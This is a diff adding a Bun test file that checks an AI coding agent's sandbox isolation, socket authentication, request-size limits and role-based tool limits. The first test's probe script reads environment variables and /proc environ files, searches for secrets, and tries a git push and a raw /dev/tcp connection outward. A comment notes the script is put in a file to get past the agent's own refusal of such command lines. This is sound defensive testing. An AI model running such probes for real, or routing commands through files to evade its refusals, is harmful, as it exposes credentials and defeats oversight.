@@ -1,0 +1,174 @@
+import { expect, test } from "bun:test";
+import { lstat, readdir } from "node:fs/promises";
+import { join } from "node:path";
+import { driverContract } from "../../../runner/agents/driver.contract.ts";
+import type { AgentEvent } from "../../../runner/agents/driver.ts";
+import { firstMessage } from "../../../runner/agents/briefing.ts";
+import { beadSpecSchema, rigSpecSchema } from "../../../protocol/run-spec.ts";
+import { findStrays } from "../../../runner/process/find-strays.ts";
+import { API_KEY, openKiloStage, type KiloStage } from "./stage.ts";
+
+const TIMEOUT_MS = 60_000;
+const isClosed = (event: AgentEvent) => event.type === "turn_closed";
+const message = { text: "Bead: Probe\nBead id: b\nAttempt: 1\nRound: 1\n\nProbe.", messageId: "m1" };
+
+driverContract("kilo in bubblewrap", (turns) => openKiloStage({ turns }), TIMEOUT_MS);
+driverContract("kilo without isolation", (turns) => openKiloStage({ turns, mode: "none" }), TIMEOUT_MS);
+
+async function startAndPrompt(stage: KiloStage, text = message.text): Promise<void> {
+  const started = await stage.driver.start();
+  if (!started.ok) throw new Error(started.error.message);
+  const prompted = await stage.driver.prompt({ text, messageId: "m1" });
+  if (!prompted.ok) throw new Error(prompted.error.message);
+}
+
+function outputOf(stage: KiloStage, tool: string): string {
+  const end = stage.events.find((event) => event.type === "tool_end" && event.tool === tool);
+  return end?.type === "tool_end" ? end.output : "";
+}
+
+test(
+  "[C23] an agent's own shell sees no key, no data of the town, no other run and no network",
+  async () => {
+    const probe = [
+      "env",
+      "ls -a /root /home 2>&1",
+      "find / -xdev -name 'other-secret' 2>/dev/null",
+      "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
+      "ls /run/gt",
+      "git push https://example.com/x.git HEAD 2>&1",
+      "(exec 3<>/dev/tcp/93.184.216.34/80) 2>&1 || echo no-network",
+    ].join("\n");
+    const look = { name: "bash", arguments: { command: "bash probe.sh", description: "probe" } };
+    await using stage = await openKiloStage({ turns: [{ tool: look }, { text: "Done." }] });
+    // In a file, because the agent itself refuses a command line that names outside paths: that is not the wall we test.
+    await Bun.write(join(stage.dirs.tree, "probe.sh"), probe);
+    await Bun.write(join(stage.world.dataDir, "other-secret"), "town secret");
+    await Bun.write(join(stage.world.dataDir, "runs/r2/tree/other-secret"), "of another run");
+    await Bun.write(join(stage.world.dataDir, "s/r2/other-secret"), "socket of another run");
+    await startAndPrompt(stage);
+    await stage.awaitEvent(isClosed);
+    const seen = outputOf(stage, "bash");
+    expect(seen).toContain("HOME=");
+    expect(seen).not.toContain(API_KEY);
+    expect(seen).not.toContain("other-secret");
+    expect(seen).toContain("no-network");
+    expect(seen).toContain("gateway.sock");
+    expect(seen).not.toContain("agent.sock");
+    expect(seen).toMatch(/cannot access '\/root'/);
+  },
+  TIMEOUT_MS,
+);
+
+test(
+  "[C23] the agent's server wants the run's password, and its socket is out of the agent's reach",
+  async () => {
+    await using stage = await openKiloStage({ turns: [{ text: "Hello." }] });
+    expect(await stage.driver.start()).toMatchObject({ ok: true });
+    const unix = join(stage.dirs.sockets, "agent.sock");
+    const ask = async (authorization?: string) => {
+      const headers: Record<string, string> = authorization === undefined ? {} : { authorization };
+      return (await fetch("http://127.0.0.1/session", { unix, headers })).status;
+    };
+    expect(await ask()).toBe(401);
+    expect(await ask(`Basic ${btoa("kilo:wrong")}`)).toBe(401);
+    expect(await ask(`Basic ${btoa(`kilo:${stage.password}`)}`)).toBe(200);
+    expect((await lstat(unix)).isSocket()).toBe(true);
+    expect(await readdir(join(stage.dirs.sockets, "a"))).not.toContain("agent.sock");
+  },
+  TIMEOUT_MS,
+);
+
+test(
+  "[C16] a polecat's first request stays within 20 KB, tools included, and every call is metered",
+  async () => {
+    await using stage = await openKiloStage({ turns: [{ tool: { name: "gt_done", arguments: { summary: "s" } } }, { text: "End." }] });
+    await startAndPrompt(stage, firstMessage({ role: "polecat", bead: sampleBead(), rig: sampleRig(), savedOid: null }));
+    await stage.awaitEvent(isClosed);
+    expect(stage.calls[0]?.requestBytes).toBeLessThanOrEqual(20 * 1024);
+    expect(stage.usage.map(({ model, metered }) => ({ model, metered }))).toEqual([
+      { model: "big", metered: true },
+      { model: "big", metered: true },
+    ]);
+    expect(stage.driver.usage().inputTokens).toBe(stage.usage.reduce((sum, { inputTokens }) => sum + inputTokens, 0));
+  },
+  TIMEOUT_MS,
+);
+
+test(
+  "[C4] a Mayor's first request stays within 24 KB and offers nothing but the town's tools",
+  async () => {
+    await using stage = await openKiloStage({ role: "mayor", turns: [{ tool: { name: "gt_rigs", arguments: {} } }, { text: "You have one rig." }] });
+    await startAndPrompt(stage, "Which rigs are there?");
+    await stage.awaitEvent(isClosed);
+    expect(stage.calls[0]?.requestBytes).toBeLessThanOrEqual(24 * 1024);
+    expect(stage.toolCalls).toEqual([{ tool: "gt_rigs", args: {} }]);
+  },
+  TIMEOUT_MS,
+);
+
+test(
+  "[C23] a role's missing tools are refused by the agent too: a refinery cannot write",
+  async () => {
+    const write = { name: "write", arguments: { filePath: "x.txt", content: "x" } };
+    await using stage = await openKiloStage({ role: "refinery", turns: [{ tool: write }, { text: "I cannot." }] });
+    await startAndPrompt(stage);
+    await stage.awaitEvent(isClosed);
+    expect(stage.events).not.toContainEqual(expect.objectContaining({ type: "tool_end", tool: "write", ok: true }));
+    expect(await readdir(stage.dirs.tree)).toEqual([]);
+  },
+  TIMEOUT_MS,
+);
+
+test(
+  "[C16] a refused model call ends the turn with the gateway's reason",
+  async () => {
+    const refusal = { ok: false, code: "stale_fence", message: "This run has been replaced.", status: 403 } as const;
+    await using stage = await openKiloStage({ turns: [{ text: "never" }], admit: () => refusal });
+    await startAndPrompt(stage);
+    expect(await stage.awaitEvent(isClosed)).toEqual({ type: "turn_closed", reason: "error" });
+    expect(stage.events).toContainEqual({ type: "error", kind: "refused", code: "stale_fence", message: refusal.message });
+    expect(stage.modelCalls()).toBe(0);
+  },
+  TIMEOUT_MS,
+);
+
+test(
+  "[C12] an agent whose tool server does not answer is a failed start that leaves nothing",
+  async () => {
+    await using stage = await openKiloStage({
+      turns: [],
+      spec: ({ tools }) => ({ tools: { ...tools, secret: "of another run" } }),
+    });
+    expect(await stage.driver.start()).toMatchObject({ ok: false, error: { message: expect.stringContaining("town's tools") } });
+    expect(await findStrays(stage.world.owner)).toEqual([]);
+  },
+  TIMEOUT_MS,
+);
+
+function sampleBead() {
+  return beadSpecSchema.parse({
+    id: `bd_${"0".repeat(26)}`,
+    title: "Reject negative amounts in the parser",
+    body: "parseAmount accepts '-5'. It should answer an error that names the field.\nDone when a test shows it.",
+    attempt: 1,
+    round: 1,
+    cycle: 1,
+    delivery: "merge",
+    convoyTitle: "Harden the parser",
+    feedback: null,
+  });
+}
+
+function sampleRig() {
+  return rigSpecSchema.parse({
+    id: `rg_${"0".repeat(26)}`,
+    name: "sample",
+    remote: "/srv/sample.git",
+    target: "main",
+    delivery: "merge",
+    gates: [{ name: "test", command: "bun test" }],
+    setup: null,
+    isolationConfirmed: false,
+  });
+}
